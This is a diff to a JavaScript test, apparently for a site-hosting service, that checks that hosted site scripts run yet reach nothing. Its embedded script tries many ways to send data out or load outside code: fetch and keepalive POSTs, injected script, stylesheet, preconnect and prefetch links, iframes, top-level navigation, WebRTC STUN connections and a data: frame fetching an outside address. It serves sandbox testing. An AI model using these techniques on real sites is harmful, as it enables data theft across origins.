@@ -117,7 +117,7 @@ test('the scripts of a site run when that is asked for, reach nothing, and chang
   const victim = await bringIn(request, 'Victim of scripts', { 'index.html': bytes('<p>secret') })
   const tries = `
     const tried = (name, work) => { try { const made = work(); made?.catch?.(() => {}) } catch {} }
-    const everything = (w, peers) => {
+    const everything = (w) => {
       for (const to of ['${outsideAddress}/', '${baseURL}/api/sites/${victim}', '/api/sites', '${baseURL}/wear/${victim}/x/index.html']) {
         tried('fetch', () => w.fetch(to).then(() => { document.title = 'stolen' }))
         tried('keepalive', () => w.fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }))
@@ -132,6 +132,7 @@ test('the scripts of a site run when that is asked for, reach nothing, and chang
         tried('open', () => w.open(to))
         tried('import', () => eval('import("' + to + 'x.js")'))
         tried('css', () => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = to + '.css'; document.head.append(l) })
+        tried('preconnect', () => { const l = document.createElement('link'); l.rel = 'preconnect'; l.href = to; document.head.append(l) })
         tried('prefetch', () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = to; document.head.append(l) })
         tried('script', () => { const s = document.createElement('script'); s.src = to + '.js'; document.head.append(s) })
         tried('frame', () => { const f = document.createElement('iframe'); f.src = to; document.body.append(f) })
@@ -139,7 +140,7 @@ test('the scripts of a site run when that is asked for, reach nothing, and chang
         tried('top', () => { top.location = to })
         tried('parent', () => { parent.document.title = 'stolen' })
       }
-      if (peers) tried('peer', () => {
+      tried('peer', () => {
         const peer = new w.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${ear.address().port}' }] })
         peer.createDataChannel('x')
         peer.createOffer().then((offer) => peer.setLocalDescription(offer))
@@ -149,11 +150,11 @@ test('the scripts of a site run when that is asked for, reach nothing, and chang
     addEventListener('load', () => {
       document.querySelector('#mark').textContent = 'ran'
       document.querySelector('#mark').insertAdjacentHTML('beforebegin', '<b id="made">made</b>')
-      everything(window, true)
+      everything(window)
       const inner = document.createElement('iframe')
       document.body.append(inner)
-      // A frame within has constructors of its own, and no browser lets these be taken away in time; see docs/reliability.md.
-      everything(inner.contentWindow, false)
+      // A frame within has constructors of its own, which the bridge cannot take away in time: the policy holds there too.
+      everything(inner.contentWindow)
       const data = document.createElement('iframe')
       data.src = 'data:text/html,<script>fetch("${outsideAddress}/data");new Image().src="${outsideAddress}/data.png"</' + 'script>'
       document.body.append(data)
